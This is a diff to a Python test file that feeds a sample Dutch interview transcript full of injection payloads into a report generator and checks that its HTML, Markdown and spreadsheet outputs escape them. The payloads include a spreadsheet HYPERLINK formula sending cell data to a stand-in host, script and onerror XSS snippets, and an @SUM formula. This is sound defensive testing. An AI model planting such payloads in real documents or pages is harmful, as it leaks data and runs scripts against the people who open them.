@@ -15,7 +15,7 @@ from tests.hostile.transcripts import CASES, GOOD
 LIGHT = ("afgekapt", "ruis", "kop-en-ruis", "macros", "standaardwaarden", "diep", "bom", "kring", "halve", "nullen", "rechts", "emoji", "geen-tekens", "formules", "script", "markdown", "sjabloon", "utf", "haakjes")  # fmt: skip
 EVIL = """Interviewer: Hoe ging dat?
 Inwoner: =HYPERLINK("http://x.nl?"&A1) Er kwam nooit meer een brief en wij hebben niets meer van de gemeente gehoord.
-Interviewer: <b>En</b> toen?
+Interviewer: <b class=kwaad>En</b> toen?
 Inwoner: <script>alert(1)</script> Niks. Wij hebben onze ideeën ingeleverd en nooit meer iets gehoord. Geen brief, geen mail.
 Interviewer: En daarna?
 Inwoner: @SUM(1+1) Wij hebben <img src=x onerror=alert(2)> nooit antwoord gekregen op onze vragen, het bleef gewoon stil.
@@ -65,7 +65,7 @@ def _harmless(out):
     assert "Geen brief, geen mail" in html
     assert "onerror=alert(2)" in html  # the words are there, as words
     for text in (html, (out / "verslag.md").read_text("utf-8")):
-        assert not re.search(r"(?<!\\)<(script>alert|img src=x|b>)", text)
+        assert not re.search(r"(?<!\\)<(script>alert|img src=x|b class=kwaad|b>plein)", text)
     assert "](x)" not in (out / "verslag.md").read_text("utf-8").replace("\\]", "")
     with zipfile.ZipFile(out / "synthese.xlsx") as book:
         sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
